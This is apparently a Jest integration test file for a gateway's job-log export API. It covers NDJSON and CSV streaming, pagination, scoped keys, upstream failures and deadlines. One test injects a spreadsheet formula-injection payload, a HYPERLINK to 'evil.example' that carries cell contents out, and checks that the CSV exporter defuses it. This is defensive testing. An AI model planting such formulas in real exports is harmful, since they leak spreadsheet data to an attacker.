import { request } from 'node:http';
import {
  LOSANT_FACTORY_APPLICATION_ID,
  LOSANT_GATEWAY_TOKEN,
  createLosantSeed,
  startLosantEmulator,
  type LosantEmulator,
} from '../../src/emulators/losant';
import { compareNewestFirst } from '../../src/contract';
import { createSchemaRegistry } from '../../src/schemas/registry';
import type { UnifiedJobLog } from '../../src/schemas/types/unified-job-log';
import { CSV_COLUMNS } from '../../src/api/export-format';
import {
  API_KEY,
  getFromGateway,
  startGatewayFor,
  type GatewayUnderTest,
} from '../helpers/gateway';

// Each export here reads thousands of records through real HTTP, some twice (export and listing).
jest.setTimeout(30_000);

const validateUnified = createSchemaRegistry().validator('unified-job-log');
/** More than two export pages (1000 records each) of one source. */
const FACTORY_JOB_LOGS = 2500;
const SCOPED_KEY = 'scoped-export-key-0123456789';

let losant: LosantEmulator;
let stack: GatewayUnderTest;
/** A gateway whose request deadline (1 s) is shorter than a slow export takes. */
let shortDeadline: GatewayUnderTest;

beforeAll(async () => {
  losant = await startLosantEmulator({
    seed: createLosantSeed({ factoryJobLogs: FACTORY_JOB_LOGS }),
  });
  const source = {
    type: 'losant',
    baseUrl: losant.url,
    applicationId: LOSANT_FACTORY_APPLICATION_ID,
    token: LOSANT_GATEWAY_TOKEN,
    perPage: 500,
    timeoutMs: 5000,
    cacheTtlMs: 0,
  };
  shortDeadline = await startGatewayFor([{ id: 'losant-test', ...source }], {
    server: { requestTimeoutMs: 1000 },
  });
  stack = await startGatewayFor(
    [
      { id: 'losant-test', ...source },
      // The same application again: every record has a twin at the same time, in another source.
      { id: 'losant-twin', ...source },
      { id: 'losant-bad', ...source, token: 'not-a-seeded-token' },
    ],
    { auth: { apiKeys: [{ id: 'scoped', key: SCOPED_KEY, sources: ['losant-test'] }] } },
  );
}, 30_000);
afterAll(async () => {
  await stack.gateway.close(100);
  await shortDeadline.gateway.close(100);
  await losant.close();
});
afterEach(() => {
  losant.clearFaults();
  losant.clearRequests();
});

const get = (path: string, key?: string): Promise<Response> =>
  getFromGateway(stack.gateway, path, key);

type Line = UnifiedJobLog | { type: string; source?: string; error?: Record<string, unknown> };
const isRecord = (line: Line): line is UnifiedJobLog => !('type' in line);

async function exportNdjson(query: string, key?: string): Promise<Line[]> {
  const response = await get(`/v1/job-logs/export?${query}`, key);
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('application/x-ndjson');
  const text = await response.text();
  expect(text.endsWith('\n')).toBe(true);
  return text
    .slice(0, -1)
    .split('\n')
    .map((line) => JSON.parse(line) as Line);
}

/** Every record of a listing, walked page by page with its cursors. */
async function listAll(query: string, limit: number): Promise<UnifiedJobLog[]> {
  const items: UnifiedJobLog[] = [];
  let cursor: string | undefined;
  do {
    const next = cursor === undefined ? '' : `&cursor=${encodeURIComponent(cursor)}`;
    const response = await get(`/v1/job-logs?${query}&limit=${limit}${next}`);
    expect(response.status).toBe(200);
    const body = (await response.json()) as { items: UnifiedJobLog[]; next?: string };
    items.push(...body.items);
    cursor = body.next;
  } while (cursor !== undefined);
  return items;
}

/** A minimal RFC 4180 reader: quoted fields with doubled quotes and line breaks, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += char;
  }
  expect(field).toBe('');
  expect(row).toEqual([]);
  return rows;
}

describe('GET /v1/job-logs/export', () => {
  describe('when one source has more records than three pages', () => {
    it('streams every record exactly once, newest first, as the listing pages them', async () => {
      const lines = await exportNdjson('source=losant-test');
      const records = lines.filter(isRecord);
      expect(records).toHaveLength(lines.length);
      expect(records).toHaveLength(FACTORY_JOB_LOGS + 1);
      expect(new Set(records.map((record) => record.id)).size).toBe(records.length);
      for (const record of records.slice(0, 50)) expect(validateUnified(record)).toBe(true);
      const listed = await listAll('source=losant-test', 300);
      expect(records.map((record) => record.id)).toEqual(listed.map((record) => record.id));
    });
  });

  describe('when two sources hold records at the same times', () => {
    it('merges them once each in the listing order (time, then id)', async () => {
      const lines = await exportNdjson('source=losant-test,losant-twin');
      const records = lines.filter(isRecord);
      expect(records).toHaveLength(lines.length);
      expect(records).toHaveLength(2 * (FACTORY_JOB_LOGS + 1));
      expect(new Set(records.map((record) => record.id)).size).toBe(records.length);
      expect([...records].sort(compareNewestFirst).map((record) => record.id)).toEqual(
        records.map((record) => record.id),
      );
      const listed = await listAll('source=losant-test,losant-twin', 1000);
      expect(records.map((record) => record.id)).toEqual(listed.map((record) => record.id));
    });

    it('applies the listing filters', async () => {
      const records = (
        await exportNdjson('source=losant-test&status=failed&since=2025-06-01T00:00:00Z')
      ).filter(isRecord);
      expect(records.length).toBeGreaterThan(0);
      expect(records.every((record) => record.status === 'failed')).toBe(true);
      expect(records.every((record) => record.time! >= '2025-06-01T00:00:00.000Z')).toBe(true);
    });
  });

  describe('with format=csv', () => {
    it('answers RFC 4180 CSV with a header row and one row per record', async () => {
      const response = await get('/v1/job-logs/export?source=losant-test&format=csv');
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      const rows = parseCsv(await response.text());
      expect(rows[0]).toEqual([...CSV_COLUMNS]);
      expect(rows).toHaveLength(FACTORY_JOB_LOGS + 2);
      const records = (await exportNdjson('source=losant-test')).filter(isRecord);
      expect(rows.slice(1).map((row) => row[0])).toEqual(records.map((record) => record.id));
      const first = records[0]!;
      expect(rows[1]).toEqual([
        first.id,
        'losant-test',
        'losant',
        first.job.id ?? '',
        first.job.name ?? '',
        first.status,
        first.nativeStatus ?? '',
        first.time ?? '',
        first.times.queued ?? '',
        first.times.started ?? '',
        first.times.ended ?? '',
        first.times.logged ?? '',
        first.message ?? '',
        first.user ?? '',
        first.target?.type ?? '',
        first.target?.id ?? '',
        first.target?.name ?? '',
        first.target?.container ?? '',
        String(first.details.length),
      ]);
    });

    it('quotes commas, quotes and line breaks, and defuses cells a spreadsheet would run', async () => {
      const name = '=HYPERLINK("https://evil.example/?x="&A1, "click")\r\nsecond line';
      losant.inject({ kind: 'invalid-record', index: 0, patch: { name } });
      const response = await get('/v1/job-logs/export?source=losant-test&format=csv');
      const text = await response.text();
      expect(text).toContain(
        `,"'=HYPERLINK(""https://evil.example/?x=""&A1, ""click"")\r\nsecond line",`,
      );
      const rows = parseCsv(text);
      expect(rows).toHaveLength(FACTORY_JOB_LOGS + 2);
      expect(rows[1]![CSV_COLUMNS.indexOf('jobName')]).toBe(`'${name}`);
    });
  });

  describe('when asked with HEAD', () => {
    it('answers the headers after reading the first page only', async () => {
      const response = await fetch(`${stack.gateway.url}/v1/job-logs/export?source=losant-test`, {
        method: 'HEAD',
        headers: { authorization: `Bearer ${API_KEY}` },
      });
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('application/x-ndjson');
      const firstPage = losant.requests.length;
      losant.clearRequests();
      await get('/v1/job-logs?source=losant-test&limit=1000');
      expect(firstPage).toBe(losant.requests.length);
    });
  });

  describe('when a parameter is bad', () => {
    it.each([
      ['format=xml', 'format'],
      ['format=csv&format=ndjson', 'format'],
      ['limit=10', 'limit'],
      ['cursor=abc', 'cursor'],
      ['sort=asc', 'sort'],
      ['status=paused', 'status'],
    ])('answers %s with 400 problem+json naming it', async (query, parameter) => {
      const response = await get(`/v1/job-logs/export?${query}`);
      expect(response.status).toBe(400);
      expect(response.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      expect(await response.json()).toMatchObject({ code: 'GW_ERR_INVALID_PARAMETER', parameter });
    });

    it('answers without an API key 401', async () => {
      const response = await getFromGateway(stack.gateway, '/v1/job-logs/export', null);
      expect(response.status).toBe(401);
    });
  });

  describe('with a key scoped to one source', () => {
    it('exports only that source when none is asked for', async () => {
      const lines = await exportNdjson('', SCOPED_KEY);
      expect(lines).toHaveLength(FACTORY_JOB_LOGS + 1);
      expect(lines.every((line) => isRecord(line) && line.source.id === 'losant-test')).toBe(true);
    });

    it('answers 403 for another source', async () => {
      const response = await get('/v1/job-logs/export?source=losant-twin', SCOPED_KEY);
      expect(response.status).toBe(403);
      expect(await response.json()).toMatchObject({ code: 'GW_ERR_FORBIDDEN' });
    });
  });

  describe('when a source fails', () => {
    it('says so in an error line and exports the other sources', async () => {
      const lines = await exportNdjson('source=losant-test,losant-bad');
      expect(lines[0]).toMatchObject({
        type: 'error',
        source: 'losant-bad',
        error: { code: 'GW_ERR_UPSTREAM_REJECTED_CREDS', source: 'losant-bad' },
      });
      expect(lines.slice(1).every(isRecord)).toBe(true);
      expect(lines).toHaveLength(FACTORY_JOB_LOGS + 2);
    });

    it('answers problem+json when every source fails before the first byte', async () => {
      const response = await get('/v1/job-logs/export?source=losant-bad');
      expect(response.status).toBe(502);
      expect(response.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    });

    /** Lets the first export page through, then fails every upstream call. */
    async function failAfterFirstPage(): Promise<void> {
      await get('/v1/job-logs?source=losant-test&limit=1000');
      const firstPageCalls = losant.requests.length;
      losant.clearRequests();
      losant.inject({ kind: 'delay', ms: 0 }, firstPageCalls);
      losant.inject({ kind: 'http-error', status: 500 }, 100);
    }

    it('ends an NDJSON export that cannot go on with an incomplete line', async () => {
      await failAfterFirstPage();
      const lines = await exportNdjson('source=losant-test');
      expect(lines.slice(0, -1).every(isRecord)).toBe(true);
      expect(lines).toHaveLength(1000 + 1);
      expect(lines.at(-1)).toMatchObject({
        type: 'incomplete',
        error: { status: 502, source: 'losant-test' },
      });
    });

    it('ends a CSV export that cannot go on with an #incomplete row', async () => {
      await failAfterFirstPage();
      const response = await get('/v1/job-logs/export?source=losant-test&format=csv');
      expect(response.status).toBe(200);
      const rows = parseCsv(await response.text());
      expect(rows).toHaveLength(1 + 1000 + 1);
      const last = rows.at(-1)!;
      expect(last[0]).toBe('#incomplete');
      expect(last[CSV_COLUMNS.indexOf('message')]).toMatch(/^GW_ERR_UPSTREAM_/);
    });
  });

  describe('when the export takes longer than the request deadline', () => {
    it('gives every page a deadline of its own and exports every record', async () => {
      // Nine upstream pages of 150 ms: about 1.4 s against a 1 s request deadline.
      losant.inject({ kind: 'delay', ms: 150 }, 50);
      const response = await getFromGateway(shortDeadline.gateway, '/v1/job-logs/export');
      expect(response.status).toBe(200);
      const lines = (await response.text()).trimEnd().split('\n');
      expect(lines).toHaveLength(FACTORY_JOB_LOGS + 1);
      expect(lines.every((line) => line.startsWith('{"id":'))).toBe(true);
    });
  });

  describe('when the client goes away mid-export', () => {
    it('stops reading the upstream', async () => {
      losant.inject({ kind: 'delay', ms: 100 }, 100);
      const { port } = new URL(stack.gateway.url);
      await new Promise<void>((resolve, reject) => {
        const req = request(
          {
            host: '127.0.0.1',
            port,
            path: '/v1/job-logs/export?source=losant-test',
            headers: { authorization: `Bearer ${API_KEY}` },
          },
          (res) => {
            res.once('data', () => {
              req.destroy();
              resolve();
            });
          },
        );
        req.on('error', (error: NodeJS.ErrnoException) => {
          if (error.code !== 'ECONNRESET') reject(error);
        });
        req.end();
      });
      const asked = losant.requests.length;
      await new Promise((resolve) => setTimeout(resolve, 600));
      // At most the call in flight when the client left; a whole export makes about nine.
      expect(losant.requests.length).toBeLessThanOrEqual(asked + 1);
      expect(losant.requests.length).toBeLessThan(9);
      expect((await get('/healthz')).status).toBe(200);
    });
  });
});
